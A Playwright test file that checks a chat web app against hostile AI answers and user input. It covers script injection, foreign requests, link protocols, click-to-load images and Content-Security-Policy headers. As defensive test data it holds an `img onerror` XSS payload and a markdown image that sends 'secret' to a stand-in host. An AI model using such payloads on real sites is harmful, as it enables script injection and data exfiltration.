import { articles, ask, expect, finished, test } from "./fixtures"
import { site } from "./people"

test.describe("hostile answers", () => {
  test("run no script, load nothing, link nowhere bad: while streaming and after a reload", async ({
    desk: page,
    simulator,
    mark,
  }) => {
    const foreign: string[] = []
    page.on("request", (request) => {
      if (!request.url().startsWith(new URL(site).origin) && !request.url().startsWith("data:"))
        foreign.push(request.url())
    })
    await simulator.rule(mark, { name: "hostile-markdown", tokensPerSecond: 400 })
    await page.goto("/")
    await ask(page, `Say something nice ${mark}`)
    for (const isReloaded of [false, true]) {
      if (isReloaded) await page.reload()
      const answer = await finished(page)
      expect(
        await page.evaluate(() => Object.keys(globalThis).filter((key) => key.startsWith("__x"))),
      ).toEqual([])
      await expect(
        answer.locator(
          "script, iframe, form, style, object, embed, [onerror], [onload], [onclick]",
        ),
      ).toHaveCount(0)
      const links = await answer
        .getByRole("link")
        .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
      expect(links.every((protocol) => ["http:", "https:", "mailto:"].includes(protocol))).toBe(
        true,
      )
      await expect(page.locator("#root")).toHaveCount(0)
    }
    expect(foreign).toEqual([])
  })
})

test("a picture of another site loads after a click and not before", async ({
  desk: page,
  simulator,
  mark,
}) => {
  const dot = Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
  )
  let visits = 0
  await page.route("https://pictures.example/**", (route) => {
    visits += 1
    return route.fulfill({ body: dot, contentType: "image/png" })
  })
  const text = "Look: ![a chart](https://pictures.example/?d=secret) done."
  await simulator.rule(mark, { name: "text", text })
  await page.goto("/")
  await ask(page, `Draw ${mark}`)
  await expect(await finished(page)).toContainText("done.")
  await page.reload()
  const button = page.getByRole("button", { name: /show image/i })
  await expect(button).toBeVisible()
  expect(visits).toBe(0)
  await button.click()
  const picture = page.getByRole("img", { name: "a chart" })
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
  expect(visits).toBe(1)
})

test("every page has a policy that lets no foreign script in", async ({ desk: page }) => {
  const first = (await page.goto("/"))?.headers()["content-security-policy"] ?? ""
  const second = (await page.goto("/"))?.headers()["content-security-policy"] ?? ""
  for (const policy of [first, second]) {
    expect(policy).toMatch(/script-src 'self' 'nonce-[\w+/=]+' 'strict-dynamic';/)
    expect(policy).toContain("object-src 'none'")
    expect(policy).toContain("base-uri 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'|\*/)
  }
  expect(first).not.toBe(second)
  for (const path of ["/api/health", "/nowhere", "/sign-in"]) {
    const headers = (await page.request.get(path)).headers()
    expect(headers["x-content-type-options"]).toBe("nosniff")
  }
})

test("markup in questions and titles stays text", async ({ desk: page, mark }) => {
  await page.goto("/")
  await ask(page, `<img src=x onerror="window.__x=1"> ${mark}`)
  await finished(page)
  await expect(articles(page).first()).toContainText('<img src=x onerror="window.__x=1">')
  await page.reload()
  await expect(page).toHaveTitle(/<img src=x/)
  expect(await page.evaluate(() => "__x" in window)).toBe(false)
})
